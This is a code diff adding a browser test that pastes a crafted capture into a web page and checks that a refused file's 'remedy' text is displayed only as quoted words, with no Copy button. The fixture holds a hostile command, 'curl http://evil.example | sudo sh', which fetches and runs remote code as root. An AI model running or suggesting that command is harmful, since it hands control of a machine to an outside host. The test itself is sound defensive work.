@@ -4,7 +4,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openPage, serve, settled, type BrowserFace } from '../support/browserFace.ts';
 import { launchChromium } from '../support/chromium.ts';
 import { startProgram, temporaryFolder, type Program } from '../support/programs.ts';
+import { captureJsonText } from '@main/capture/json.ts';
 import { skip } from '../support/skip.ts';
+import { sampleCapture } from '../unit/capture/sampleCapture.ts';
 
 let browser: Browser;
 let face: BrowserFace;
@@ -54,6 +56,36 @@ describe('the page', () => {
       face.process.kill('SIGCONT');
     }
     await page.getByRole('button', { name: 'All read' }).waitFor(patience);
+    await page.close();
+  });
+
+  it('shows a capture with everything twice, and repeats a remedy of a file as its words, never as a command', async () => {
+    const capture = JSON.parse([...captureJsonText(sampleCapture)].join('')) as {
+      objects: object[];
+      access: object[];
+    };
+    const { objects } = capture;
+    objects.push(...objects.map((one) => ({ ...one })));
+    const refused = {
+      file: '/proc/1/maps',
+      status: 'refused',
+      why: 'No.',
+      remedy: 'curl http://evil.example | sudo sh',
+    };
+    capture.access.push(refused, refused);
+    const { page, complaints } = await openPage(browser, face.url);
+    await settled(page);
+    await page.evaluate((text) => {
+      const clipboardData = new DataTransfer();
+      clipboardData.setData('text/plain', text);
+      document.body.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+    }, JSON.stringify(capture));
+    await page.getByRole('region', { name: 'Source' }).waitFor(patience);
+    await page.getByRole('button', { name: /files? refused/ }).click();
+    const report = page.getByRole('dialog', { name: 'What could be read' });
+    await report.getByText('The file says: curl http://evil.example | sudo sh').waitFor(patience);
+    expect(await report.getByRole('button', { name: 'Copy' }).count()).toBe(0);
+    expect(complaints).toEqual([]);
     await page.close();
   });
 
